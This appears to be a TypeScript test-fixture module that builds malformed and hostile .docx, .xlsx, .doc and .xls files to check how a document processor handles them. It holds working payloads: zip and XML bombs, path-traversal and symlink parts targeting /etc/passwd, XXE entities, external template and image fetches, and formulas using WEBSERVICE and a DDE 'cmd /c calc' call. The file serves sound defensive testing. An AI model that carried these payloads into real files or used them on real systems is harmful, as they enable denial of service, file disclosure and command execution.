/** Word and Excel files that are bombs, lie about themselves, or want something fetched or run. */
import { utils, write } from '@e965/xlsx';
import { rawBomb } from './deflateBomb.ts';
import { CALLS, type HostileFile } from './hostileFile.ts';
import { noise } from './hostilePdfs.ts';
import { rawZip, type ZipPart } from './rawZip.ts';

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const TEXT = 'City of Riverside Business License BL-2024-58376';

const types = (part: string, kind: string): ZipPart => ({
  name: '[Content_Types].xml',
  data: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`,
});
const root = (part: string): ZipPart => ({
  name: '_rels/.rels',
  data: `${XML}<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="${part}"/></Relationships>`,
});
const wordHead = [types('word/document.xml', 'wordprocessingml.document'), root('word/document.xml')];
const body = (inner: string, before = ''): ZipPart => ({
  name: 'word/document.xml',
  data: `${XML}${before}<w:document xmlns:w="${WORD}" xmlns:r="${OFFICE}"><w:body>${inner}</w:body></w:document>`,
});
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const word = (...parts: readonly ZipPart[]): Buffer => rawZip([...wordHead, ...parts]);
const honestWord = [...wordHead, body(paragraph(TEXT))];

const bookHead = [
  types('xl/workbook.xml', 'spreadsheetml.sheet'),
  root('xl/workbook.xml'),
  {
    name: 'xl/workbook.xml',
    data: `${XML}<workbook xmlns="${SHEET}" xmlns:r="${OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  },
  {
    name: 'xl/_rels/workbook.xml.rels',
    data: `${XML}<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
  },
];
const rows = (inner: string, dimension = 'A1:B2', before = ''): ZipPart => ({
  name: 'xl/worksheets/sheet1.xml',
  data: `${XML}${before}<worksheet xmlns="${SHEET}"><dimension ref="${dimension}"/><sheetData>${inner}</sheetData></worksheet>`,
});
const book = (...parts: readonly ZipPart[]): Buffer => rawZip([...bookHead, ...parts]);
const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;

const OUTSIDE = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "${CALLS}">]>`;
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "lollollollol">${[...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`;

/** An old Office file: `sectors` of 512 bytes behind the head; the allocation table starts with `table`. */
function compoundFile(name: string, table: readonly number[], sectors = 8): Buffer {
  const file = Buffer.alloc(512 * (sectors + 1), 0xff);
  file.fill(0, 0, 512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
  for (const [at, value] of [
    [24, 0x3e],
    [26, 3],
    [28, 0xfffe],
    [30, 9],
    [32, 6],
  ] as const)
    file.writeUInt16LE(value, at);
  for (const [at, value] of [
    [44, 1],
    [48, 1],
    [56, 4096],
    [60, 0xfffffffe],
    [68, 0xfffffffe],
    [76, 0],
  ] as const)
    file.writeUInt32LE(value, at);
  for (let at = 80; at < 512; at += 4) file.writeUInt32LE(0xffffffff, at);
  for (const [index, value] of table.entries()) file.writeUInt32LE(value >>> 0, 512 + index * 4);
  const entry = (at: number, title: string, kind: number, child: number, start: number, size: number) => {
    file.fill(0, at, at + 128);
    file.write(title, at, 'utf16le');
    file.writeUInt16LE(title.length * 2 + 2, at + 64);
    file[at + 66] = kind;
    for (const sibling of [68, 72]) file.writeUInt32LE(0xffffffff, at + sibling);
    file.writeUInt32LE(child >>> 0, at + 76);
    file.writeUInt32LE(start, at + 116);
    file.writeUInt32LE(size, at + 120);
  };
  entry(1024, 'Root Entry', 5, 1, 0xfffffffe, 0);
  entry(1152, name, 2, 0xffffffff, 2, 0x7fffffff);
  return file;
}

const withMacros = (bookType: 'biff8' | 'xlsx'): Uint8Array => {
  const workbook = utils.book_new();
  const sheet = utils.aoa_to_sheet([
    ['License', TEXT],
    [
      { t: 'n', v: 1, f: `WEBSERVICE("${CALLS}")` },
      { t: 's', v: 'x', f: `cmd|'/c calc'!A0` },
    ],
  ]);
  utils.book_append_sheet(workbook, sheet, 'Statement');
  return new Uint8Array(write(workbook, { type: 'buffer', bookType, bookVBA: true }) as Buffer);
};

const file = (
  name: string,
  endings: HostileFile['endings'],
  make: HostileFile['make'],
  more: Partial<HostileFile> = {},
): HostileFile => ({ name, endings, make, isQuick: true, ...more });
const TOO_LARGE = ['archive-too-large'] as const;
const calling = { isCalling: true };

export const HOSTILE_OFFICE: readonly HostileFile[] = [
  file('two megabytes that become two gigabytes.docx', TOO_LARGE, () =>
    word({ name: 'word/document.xml', deflated: rawBomb(2048), saidSize: 2048 * 1024 * 1024 }),
  ),
  file('a bomb that says it is small.docx', ['archive-too-large', 'not-readable'], () =>
    word({ name: 'word/document.xml', deflated: rawBomb(2048), saidSize: 1000 }),
  ),
  file('a bomb in a part nobody reads.docx', ['archive-too-large', 'not-readable'], () =>
    rawZip([...honestWord, { name: 'x.bin', deflated: rawBomb(4000), saidSize: 100 }]),
  ),
  file('archives in an archive.docx', ['completed', 'nothing-legible'], () =>
    rawZip([
      ...honestWord,
      {
        name: 'x.zip',
        data: rawZip([{ name: 'y.zip', data: rawZip([{ name: 'z', deflated: rawBomb(30), saidSize: 30 }]) }]),
      },
    ]),
  ),
  file('a hundred thousand parts.docx', TOO_LARGE, () =>
    rawZip([
      ...honestWord,
      ...Array.from({ length: 65_000 }, (_, index) => ({
        name: `x${index}`,
        deflated: Buffer.from([3, 0]),
        saidSize: 0,
      })),
    ]),
  ),
  file(
    'more parts said than there are.docx',
    ['not-readable', 'archive-too-large', 'unsupported-office-file'],
    () => rawZip(honestWord, 60_000),
  ),
  file('a part that climbs out.docx', ['not-readable', 'unsupported-office-file', 'completed'], () =>
    rawZip([...honestWord, { name: '../../../../tmp/hostile-slip', data: 'x' }]),
  ),
  file('a part with an absolute path.docx', ['not-readable', 'unsupported-office-file', 'completed'], () =>
    rawZip([...honestWord, { name: '/tmp/hostile-slip', data: 'x' }]),
  ),
  file('a part that is a link.docx', ['completed'], () =>
    rawZip([...honestWord, { name: 'word/media/image1.png', data: '/etc/passwd', mode: 0o120777 }]),
  ),
  file(
    'entities from outside.docx',
    ['unsupported-office-file'],
    () => word(body(paragraph('&e;&f;'), OUTSIDE)),
    calling,
  ),
  file(
    'entities from outside, UTF-16.docx',
    [],
    () =>
      word({
        name: 'word/document.xml',
        data: Buffer.from(
          `\ufeff${OUTSIDE}<w:document xmlns:w="${WORD}"><w:body>${paragraph('&e;')}</w:body></w:document>`,
          'utf16le',
        ),
      }),
    calling,
  ),
  file('a billion laughs.docx', ['unsupported-office-file'], () => word(body(paragraph('&j;'), LAUGHS))),
  file('a billion laughs after much white space.docx', [], () =>
    word(body(paragraph('&j;'), ' '.repeat(5000) + LAUGHS)),
  ),
  file(
    'a template from an address.docx',
    ['completed'],
    () =>
      word(
        body(paragraph(TEXT)),
        {
          name: 'word/settings.xml',
          data: `${XML}<w:settings xmlns:w="${WORD}" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        },
        {
          name: 'word/_rels/settings.xml.rels',
          data: `${XML}<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="${CALLS}" TargetMode="External"/></Relationships>`,
        },
      ),
    calling,
  ),
  file(
    'a picture from an address.docx',
    ['completed', 'nothing-legible'],
    () =>
      word(
        body(
          `${paragraph(TEXT)}<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId9"/></v:shape></w:pict></w:r></w:p>`,
        ),
        {
          name: 'word/_rels/document.xml.rels',
          data: `${XML}<Relationships xmlns="${RELATIONS}"><Relationship Id="rId9" Type="${OFFICE}/image" Target="${CALLS}" TargetMode="External"/></Relationships>`,
        },
      ),
    calling,
  ),
  file('tables in tables, 5000 deep.docx', [], () =>
    word(
      body(`${'<w:tbl><w:tr><w:tc>'.repeat(5000)}${paragraph(TEXT)}${'</w:tc></w:tr></w:tbl>'.repeat(5000)}`),
    ),
  ),
  file('a hundred thousand levels of nothing.docx', [], () =>
    word(body('<w:p>'.repeat(100_000) + '</w:p>'.repeat(100_000))),
  ),
  file('a cell over a billion columns.docx', [], () =>
    word(
      body(
        `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${paragraph(TEXT)}</w:tc></w:tr></w:tbl>`,
      ),
    ),
  ),
  file('forty megabytes of paragraphs.docx', [], () => word(body(paragraph('a').repeat(900_000))), {
    isQuick: false,
  }),
  file('a hundred thousand tables.docx', ['archive-too-large'], () =>
    word(body(`<w:tbl><w:tr><w:tc>${paragraph('x')}</w:tc></w:tr></w:tbl>`.repeat(100_000))),
  ),
  file('text that only the file sees.docx', ['nothing-legible'], () =>
    word(body(`<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>${TEXT}</w:t></w:r></w:p>`)),
  ),
  file('runs in runs, 50000 deep, hidden.docx', [], () =>
    word(body(`<w:p>${'<w:r><w:rPr><w:vanish/></w:rPr>'.repeat(50_000)}${'</w:r>'.repeat(50_000)}</w:p>`)),
  ),
  file('sealed with a password.docx', ['protected-office-file'], () =>
    compoundFile('EncryptedPackage', [0xfffffffd, 0xfffffffe, 3, 4, 5, 6]),
  ),
  file(
    'one long text in every cell.xlsx',
    [],
    () =>
      rawZip([
        ...bookHead.slice(0, -1),
        {
          name: 'xl/_rels/workbook.xml.rels',
          data: `${XML}<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
        },
        {
          name: 'xl/sharedStrings.xml',
          data: `${XML}<sst xmlns="${SHEET}"><si><t>${'A1 '.repeat(1_000_000)}</t></si></sst>`,
        },
        rows(`<row>${'<c t="s"><v>0</v></c>'.repeat(50)}</row>`.repeat(4000)),
      ]),
    { isQuick: false },
  ),
  file('no document in it.docx', [], () => rawZip([...wordHead, { name: 'word/document.bak', data: 'x' }])),
  file(
    'entities from outside.xlsx',
    ['unsupported-office-file'],
    () => book(rows(`<row r="1">${cell('A1', '&e;')}</row>`, 'A1', OUTSIDE)),
    calling,
  ),
  file('a billion laughs.xlsx', ['unsupported-office-file'], () =>
    book(rows(`<row r="1">${cell('A1', '&j;')}</row>`, 'A1', LAUGHS)),
  ),
  file('a sheet said to be full.xlsx', [], () =>
    book(rows(`<row r="1048576">${cell('XFD1048576', TEXT)}</row>`, 'A1:XFD1048576')),
  ),
  file('rows of minus one and a billion.xlsx', [], () =>
    book(
      rows(`<row r="-1">${cell('A-1', 'a')}</row><row r="1000000000">${cell('ZZZZZZ1000000000', 'b')}</row>`),
    ),
  ),
  file('a link from every cell.xlsx', ['completed'], () =>
    book({
      name: 'xl/worksheets/sheet1.xml',
      data: `${XML}<worksheet xmlns="${SHEET}"><sheetData><row r="1">${cell('A1', TEXT)}</row></sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="a!A1"/></hyperlinks></worksheet>`,
    }),
  ),
  file('columns from one to two billion.xlsx', ['completed'], () =>
    book({
      name: 'xl/worksheets/sheet1.xml',
      data: `${XML}<worksheet xmlns="${SHEET}"><cols><col min="1" max="2000000000" width="9"/></cols><sheetData><row r="1">${cell('A1', TEXT)}</row></sheetData></worksheet>`,
    }),
  ),
  file('sixteen thousand columns.xlsx', [], () =>
    book(
      rows(
        Array.from(
          { length: 100 },
          (_, row) => `<row r="${row + 1}">${cell(`XFD${row + 1}`, 'a')}</row>`,
        ).join(''),
      ),
    ),
  ),
  file('cells merged a million times.xlsx', [], () =>
    book({
      name: 'xl/worksheets/sheet1.xml',
      data: `${XML}<worksheet xmlns="${SHEET}"><sheetData><row r="1">${cell('A1', TEXT)}</row></sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(500_000)}</mergeCells></worksheet>`,
    }),
  ),
  file('formulas that call and run.xlsx', ['completed'], () => withMacros('xlsx'), calling),
  file('formulas that call and run.xls', ['completed'], () => withMacros('biff8'), calling),
  file('a part that is its own branch.xls', ['unsupported-office-file'], () => {
    const workbook = Buffer.from(withMacros('biff8'));
    const at = workbook.indexOf(Buffer.from('Workbook', 'utf16le'));
    for (const [index, part] of [1, 1, 0].entries()) workbook.writeUInt32LE(part, at + 68 + index * 4);
    return workbook;
  }),
  file('a table in a circle.doc', ['unsupported-office-file', 'nothing-legible'], () =>
    compoundFile('WordDocument', [0xfffffffd, 1, 2, 3, 4]),
  ),
  file('a table in a circle.xls', ['unsupported-office-file', 'nothing-legible'], () =>
    compoundFile('Workbook', [0xfffffffd, 1, 3, 2, 4]),
  ),
  file('a table that points outside.doc', ['unsupported-office-file', 'nothing-legible'], () =>
    compoundFile('WordDocument', [0xfffffffd, 0x7fffffff, 0x7ffffff0, 5]),
  ),
  file('noise behind an old head.doc', ['unsupported-office-file', 'nothing-legible'], () =>
    Buffer.concat([compoundFile('WordDocument', [0xfffffffd, 0xfffffffe, 3, 4, 5, 6]), noise(500_000)]),
  ),
  file('noise behind an old head.xls', ['unsupported-office-file', 'nothing-legible'], () =>
    Buffer.concat([compoundFile('Workbook', [0xfffffffd, 0xfffffffe, 3, 4, 5, 6]), noise(500_000)]),
  ),
];
